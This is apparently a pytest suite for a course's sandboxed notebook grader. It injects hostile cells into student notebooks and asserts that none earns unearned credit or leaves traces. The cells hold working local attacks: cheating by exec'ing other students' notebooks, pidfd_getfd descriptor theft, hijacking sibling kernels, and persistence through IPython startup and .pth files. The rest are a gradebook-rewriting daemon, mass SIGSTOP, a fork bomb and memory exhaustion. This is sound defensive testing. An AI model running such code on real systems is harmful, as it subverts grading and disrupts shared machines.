"""Hostile submissions against the sandboxed grader, graded together with honest ones, twice.

Each crafted notebook is exercise 02 (no honest answers: it can earn only what its attack takes)
or solution 02 (every answer right: it must keep exactly full marks) with an attack added. The
attacks are what an ill-meaning learner would try, as the unprivileged user the kernel runs as:
find the reference answers (problem bank, solutions, classmates' notebooks, the grader's command
line), reach the grader or sibling kernels (pidfd_getfd on the worker's pipe, connection files,
signals), poison later kernels or later runs (IPython startup files, .pth files, the library),
break the gradebook (odd file names, lone surrogates, a daemon that rewrites it), and exhaust
resources (memory across forks, output floods, cells that swallow interrupts).

Done when (issue 9): every honest notebook gets exactly its grade, no crafted one gets credit it
did not earn, the gradebook is complete, no process is left over, and two runs agree.
Marker kernel: make slowtest.
"""

import csv
import hashlib
import json
import os
import subprocess
import sys
import time
from pathlib import Path

import nbformat
import pytest
from nbformat.v4 import new_code_cell

pytestmark = pytest.mark.kernel
ROOT = Path(__file__).resolve().parents[2]
SOL02, EX02 = ROOT / "solutions" / "02_sgd_by_hand.ipynb", ROOT / "exercises" / "02_sgd_by_hand.ipynb"
SOLUTIONS = sorted((ROOT / "solutions").glob("[0-9][0-9]_*.ipynb"))
EXERCISES = sorted((ROOT / "exercises").glob("[0-9][0-9]_*.ipynb"))
MARK = "SGDCOURSE_ATTACK_MARK_7f3a"
OPTIONS = ["--jobs", "2", "--cell-timeout", "15", "--memory-limit", "2048"]


def solution_code():
    """All code of solution 02: what an attacker who found it (or knew it) could run."""
    return "\n".join(c.source for c in nbformat.read(SOL02, as_version=4).cells if c.cell_type == "code")


def with_cells(source, *codes, first=False):
    nb = nbformat.read(source, as_version=4)
    at = 1 if first else len(nb.cells)
    for k, code in enumerate(codes):
        nb.cells.insert(at + k, new_code_cell(code, id=f"attack-{k}"))
    return nb


FIND_ANSWERS = """import os, json, glob
found = []
for top, dirs, files in os.walk("/"):
    if top.startswith(("/proc", "/sys", "/dev")):
        dirs[:] = []
        continue
    for f in files:
        if f.endswith(".ipynb") or f.startswith("lesson0") or f == "MANIFEST.sha256":
            found.append(os.path.join(top, f))
print(len(found), "files found")
for path in found:
    if path.endswith(".ipynb"):
        try:
            nb = json.load(open(path))
            exec("\\n".join("".join(c["source"]) for c in nb["cells"] if c["cell_type"] == "code"))
        except Exception as exc:
            print(path, exc)
import sgdcourse.problems as P
for pid, problem in dict(P.BANK).items():
    print("bank has", pid)
"""
PROC = """import os, ctypes, glob, pickle
libc = ctypes.CDLL(None, use_errno=True)
mine = {os.getpid(), os.getppid()}
taken = 0
for entry in os.listdir("/proc"):
    if not entry.isdigit() or int(entry) in mine:
        continue
    pid = int(entry)
    try:
        cmd = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\\0")
        for arg in cmd:
            if arg.endswith(b".ipynb") and os.path.exists(arg):
                exec("\\n".join("".join(c["source"]) for c in __import__("json").load(open(arg))["cells"]
                                if c["cell_type"] == "code"))
        pidfd = os.pidfd_open(pid)
        for fd in range(64):
            got = libc.syscall(438, pidfd, fd, 0)          # pidfd_getfd
            if got >= 0:
                taken += 1
                payload = pickle.dumps(("done", None))      # a worker's message, as the supervisor reads it
                try:
                    os.write(got, len(payload).to_bytes(4, "big") + payload)
                except OSError:
                    pass
    except (OSError, ValueError):
        pass
print("descriptors taken:", taken)
"""
CONNECT = """import glob, os, json
from jupyter_client import BlockingKernelClient
others = [p for p in glob.glob("/**/*.json", recursive=True) if "kernel" in os.path.basename(p)]
for path in others:
    try:
        info = json.load(open(path))
        if info.get("key") is None:
            continue
        kc = BlockingKernelClient(connection_file=path)
        kc.load_connection_file()
        kc.start_channels()
        kc.execute("w3 = 'overwritten by a classmate'; open('PWNED_%s', 'w')" % os.getpid())
        kc.stop_channels()
    except Exception as exc:
        pass
print(len(others), "connection files seen")
"""
POISON = """import os, site, sys, sgdcourse
home = os.path.expanduser("~")
startup = os.path.join(home, ".ipython", "profile_default", "startup")
os.makedirs(startup, exist_ok=True)
open(os.path.join(startup, "00-answers.py"), "w").write(SOLUTION_CODE)
written = []
targets = [os.path.join(p, "zz-answers.pth") for p in site.getsitepackages() + [site.getusersitepackages()]]
targets += [sgdcourse.__file__, os.path.join(os.sep, "root", ".ipython", "profile_default", "startup", "x.py")]
for path in targets:
    try:
        with open(path, "a") as f:
            f.write("\\nimport builtins; builtins.w3 = 0.308\\n")
        written.append(path)
    except OSError:
        pass
import glob
for path in glob.glob("/**/solutions/*.ipynb", recursive=True):
    try:
        open(path, "w").write("{}")
        written.append(path)
    except OSError:
        pass
print("written:", written)
"""
SIGNALS = """import os, signal
hit = 0
for pid in range(2, 4 * 10 ** 5):
    if pid == os.getpid():
        continue
    try:
        os.kill(pid, signal.SIGSTOP)
        hit += 1
    except OSError:
        pass
print("stopped", hit)
"""
DAEMON = '''import os, subprocess, sys
code = """
import os, time, glob
# MARK
deadline = time.time() + 90
while time.time() < deadline:
    for path in glob.glob('/**/grades*.csv', recursive=True) + ['grades.csv', '../grades.csv']:
        try:
            open(path, 'w').write('submission,problem,status,score,points,feedback\\\\nall,,correct,100,1,\\\\n')
        except OSError:
            pass
    time.sleep(0.2)
""".replace("MARK", "MARK_VALUE")
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", code])
    os._exit(0)
'''.replace("MARK_VALUE", MARK)
FORKS = """import os, time
ready_r, ready_w = os.pipe()
for _ in range(10):
    if os.fork() == 0:
        block = bytearray(300 * 2 ** 20)
        for k in range(0, len(block), 4096):
            block[k] = 1
        os.write(ready_w, b"x")
        time.sleep(60)
        os._exit(0)
got = 0
while got < 10:                     # every child holds its 300 MB: 3 GB together
    got += len(os.read(ready_r, 10))
time.sleep(5)
"""
FLOOD = """from IPython.display import display
chunk = "x" * (8 * 2 ** 20)
while True:                         # 16 MB a message until the time limit stops it
    display({"text/plain": chunk, "application/x-sgdcourse-grade+json": {"value": chunk}}, raw=True)
"""
STUCK = """import time
while True:
    try:
        time.sleep(0.05)
    except BaseException:
        pass"""
FORK_BOMB = """import os
n = 0
try:
    while n < 100000:
        if os.fork() == 0:
            import time; time.sleep(30); os._exit(0)
        n += 1
except OSError as exc:
    print("stopped after", n, "forks:", exc)
"""
ODD_OUTPUT = 'raise ValueError("lone surrogate \\udcff and an escape \\x1b[2J\\x1b[31m here")'


def crafted(folder):
    """{name: (kind, notebook or bytes)}: kind 'zero' must earn 0, 'full' must keep full marks."""
    sol = solution_code()
    nbs = {
        "02_find_answers.ipynb": ("zero", with_cells(EX02, FIND_ANSWERS)),
        "02_proc_and_pipes.ipynb": ("zero", with_cells(EX02, PROC)),
        "02_connect_siblings.ipynb": ("zero", with_cells(EX02, CONNECT)),
        "02_poison_later.ipynb": ("zero", with_cells(EX02, POISON.replace("SOLUTION_CODE", repr(sol)))),
        "02_stop_everyone.ipynb": ("zero", with_cells(EX02, SIGNALS)),
        "02_daemon.ipynb": ("zero", with_cells(EX02, DAEMON)),
        "02_fork_memory.ipynb": ("zero", with_cells(EX02, FORKS)),
        "02_fork_bomb.ipynb": ("zero", with_cells(EX02, FORK_BOMB)),
        "02_flood_full.ipynb": ("full", with_cells(SOL02, FLOOD)),
        "02_three_stuck_full.ipynb": ("full", with_cells(SOL02, STUCK, STUCK, STUCK)),
        "02_comment_names_03_full.ipynb": ("full", with_cells(SOL02, "x = (\n# check('03-batch-gradient', 1)\n")),
        "02_odd_output_full.ipynb": ("full", with_cells(SOL02, ODD_OUTPUT)),
    }
    for name, (kind, nb) in nbs.items():
        nbformat.write(nb, folder / name)
    # honest work under names that have broken gradebooks: not UTF-8, and terminal escapes
    (folder / os.fsdecode(b"02_Jos\xe9.ipynb")).write_bytes(SOL02.read_bytes())
    (folder / "02_\x1b[2J\x1b[31mred.ipynb").write_bytes(SOL02.read_bytes())
    # symbolic links to the solution and to a classmate's file
    (folder / "02_link_to_solution.ipynb").symlink_to(SOL02)
    (folder / "02_classmate.ipynb").write_bytes(EX02.read_bytes())
    (folder / "02_link_to_classmate.ipynb").symlink_to(folder / "02_classmate.ipynb")
    return {name: kind for name, (kind, _) in nbs.items()}


def digest_tree(*folders):
    out = {}
    for folder in folders:
        for p in sorted(Path(folder).rglob("*")):
            if p.is_file() and "__pycache__" not in p.parts:
                out[str(p)] = hashlib.sha256(p.read_bytes()).hexdigest()
    return out


def leftovers(base):
    """Host processes that carry the daemon's mark or run in this test's grading folders."""
    found = []
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                cmd = open(f"/proc/{entry}/cmdline", "rb").read()
            except OSError:
                continue
            if MARK.encode() in cmd or str(base).encode() in cmd:
                found.append((int(entry), cmd[:200]))
    return found


def grade(base, out):
    env = {**os.environ, "TMPDIR": str(base / "tmp")}  # the grader's run folders, to look at afterwards
    proc = subprocess.run(
        [sys.executable, "-m", "sgdcourse.grading", "grade", "subs", "--out", out, *OPTIONS],
        cwd=base,
        capture_output=True,
        timeout=900,
        env=env,
    )
    assert proc.returncode == 0, proc.stderr.decode(errors="replace")[-3000:]
    with open(base / out, newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    with open(base / out.replace(".csv", "_summary.csv"), newline="", encoding="utf-8") as f:
        summary = {s["submission"]: s for s in csv.DictReader(f)}
    return proc, rows, summary


@pytest.fixture(scope="module")
def runs(tmp_path_factory):
    base = tmp_path_factory.mktemp("attacks")
    (base / "tmp").mkdir()
    subs = base / "subs"
    (subs / "shipped").mkdir(parents=True)
    for path in SOLUTIONS + EXERCISES:
        (subs / "shipped" / f"{path.parent.name}_{path.name}").write_bytes(path.read_bytes())
    kinds = crafted(subs)
    trusted = [ROOT / "lib", ROOT / "solutions", Path(sys.prefix) / "lib"]
    before = digest_tree(*trusted)
    first = grade(base, "grades.csv")
    time.sleep(3)  # long enough for a surviving daemon to rewrite the gradebook
    gradebook_after_exit = (base / "grades.csv").read_bytes()
    left_first = leftovers(base)
    second = grade(base, "again.csv")
    return dict(
        base=base,
        kinds=kinds,
        first=first,
        second=second,
        before=before,
        after=digest_tree(*trusted),
        trusted=trusted,
        left=left_first + leftovers(base),
        gradebook_after_exit=gradebook_after_exit,
    )


def test_honest_notebooks_get_exactly_their_grade(runs):
    _, rows, summary = runs["first"]
    for path in SOLUTIONS + EXERCISES:
        s = summary[f"subs/shipped/{path.parent.name}_{path.name}"]
        assert s["error"] == "" and s["notes"] == "", s
        assert s["total"] == (s["max"] if path.parent.name == "solutions" else "0"), s


def test_no_attack_earns_credit_and_attacks_on_full_marks_change_nothing(runs):
    _, rows, summary = runs["first"]
    full = summary["subs/shipped/solutions_02_sgd_by_hand.ipynb"]["max"]
    for name, kind in runs["kinds"].items():
        s = summary[f"subs/{name}"]
        assert s["total"] == ("0" if kind == "zero" else full), (name, s)
    for name in ("02_link_to_solution.ipynb", "02_link_to_classmate.ipynb"):
        assert summary[f"subs/{name}"]["error"] == "not a regular file: it is a symbolic link"
    assert summary["subs/02_classmate.ipynb"]["total"] == "0" and summary["subs/02_classmate.ipynb"]["error"] == ""


def test_the_kernel_sees_no_reference_answers(runs):
    _, rows, summary = runs["first"]
    s = summary["subs/02_find_answers.ipynb"]
    assert "bank has" not in json.dumps(rows) and s["total"] == "0"
    assert {r["status"] for r in rows if r["submission"] == "subs/02_find_answers.ipynb"} == {"unanswered"}


def test_the_gradebook_is_complete_and_clean(runs):
    proc, rows, summary = runs["first"]
    names = {r["submission"] for r in rows}
    assert len(summary) == len(SOLUTIONS) + len(EXERCISES) + len(runs["kinds"]) + 5 and names == set(summary)
    jose = "subs/02_Jos\\xe9.ipynb"
    red = "subs/02_\\x1b[2J\\x1b[31mred.ipynb"
    assert summary[jose]["total"] == summary[red]["total"] == summary[jose]["max"]
    notes = summary["subs/02_odd_output_full.ipynb"]["notes"]
    assert ("\\xff" in notes or "\ufffd" in notes) and "\\x1b[2J" in notes
    raw = (runs["base"] / "grades.csv").read_bytes() + (runs["base"] / "grades_summary.csv").read_bytes()
    raw.decode("utf-8")
    assert b"\x1b" not in raw and b"\x1b" not in proc.stderr and b"\x1b" not in proc.stdout


def test_nothing_outlives_the_run_or_changes_the_trusted_files(runs):
    assert runs["left"] == []
    assert (runs["base"] / "grades.csv").read_bytes() == runs["gradebook_after_exit"]
    assert runs["after"] == runs["before"]
    assert not list(runs["base"].rglob("PWNED*")) and list((runs["base"] / "tmp").iterdir()) == []


def test_resource_attacks_are_stopped_and_named(runs):
    _, rows, summary = runs["first"]
    assert "memory limit" in summary["subs/02_fork_memory.ipynb"]["error"]
    assert summary["subs/02_three_stuck_full.ipynb"]["notes"].count("ignored the interrupt") == 3
    added = len(nbformat.read(SOL02, as_version=4).cells) + 1  # the number of the attack's cell
    assert summary["subs/02_flood_full.ipynb"]["notes"] == f"cell {added} was stopped at the 15 s time limit"


def test_two_runs_give_identical_gradebooks(runs):
    assert runs["first"][1] == runs["second"][1]
    assert runs["first"][2] == runs["second"][2]


def test_a_flood_of_output_does_not_grow_the_graders_memory(tmp_path):
    """The grader keeps only the payload it asked for: gigabytes of display data cost it nothing."""
    import resource

    from sgdcourse.grading.kernel import Kernel
    from sgdcourse.grading.sandbox import Sandbox

    sandbox = Sandbox.create(2048)
    kernel = Kernel(2048, 2.0, sandbox=sandbox)
    try:
        kernel.start()
        before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024
        assert kernel.run_cell(FLOOD.replace("while True:", "for _ in range(120):"), 60)[0] == "ok"
        grown = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024 - before
        assert kernel.run_cell("x = 1", 10) == ("ok", None)
    finally:
        kernel.close()
        sandbox.remove()
    assert grown < 200, f"the grader's memory grew by {grown:.0f} MB while the kernel sent 1.9 GB"


def test_an_output_path_planted_as_a_fifo_or_folder_is_refused_at_once(tmp_path):
    (tmp_path / "subs").mkdir()
    (tmp_path / "subs" / "02_x.ipynb").write_bytes(SOL02.read_bytes())
    os.mkfifo(tmp_path / "fifo.csv")
    (tmp_path / "dir.csv").mkdir()
    for out in ("fifo.csv", "dir.csv"):
        proc = subprocess.run(
            [sys.executable, "-m", "sgdcourse.grading", "grade", "subs", "--out", out],
            cwd=tmp_path,
            capture_output=True,
            text=True,
            timeout=60,
        )
        assert proc.returncode == 2 and "exists and is not a regular file" in proc.stderr, proc.stderr
